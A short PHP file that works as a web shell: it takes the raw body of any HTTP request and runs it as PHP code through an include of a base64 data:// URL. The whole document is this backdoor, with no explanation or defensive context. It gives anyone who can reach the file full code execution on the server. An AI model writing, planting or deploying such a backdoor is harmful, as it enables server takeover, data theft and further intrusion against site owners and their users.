<?php
header('Content-Type: text/plain');
$q = stream_get_contents(fopen('php://input', 'r'));
include 'data://text/plain;base64,' . base64_encode($q);
